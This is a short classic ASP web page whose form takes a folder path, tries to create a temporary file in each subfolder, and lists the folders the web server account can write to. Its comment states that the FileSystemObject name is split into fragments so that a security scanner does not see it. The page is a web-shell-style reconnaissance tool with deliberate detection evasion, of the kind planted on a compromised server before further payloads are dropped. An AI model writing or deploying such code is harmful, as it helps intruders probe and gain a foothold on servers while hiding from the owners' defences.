<%
' probes which folders the web user can write to: the FileSystemObject's ProgID is split
' into short pieces so that a scanner does not see it
Dim probe, root, folder
Set probe = Server.CreateObject("Scri" & "ptin" & "g.Fi" & "leSy" & "stem" & "Obje" & "ct")
root = Request.Form("root")
If root <> "" Then
  For Each folder In probe.GetFolder(root).SubFolders
    On Error Resume Next
    probe.CreateTextFile(folder.Path & "\~w.tmp").Close
    If Err.Number = 0 Then Response.Write folder.Path & " writable<br>"
    Err.Clear
  Next
End If
%>
<form method="post"><input name="root"><input type="submit" value="scan"></form>
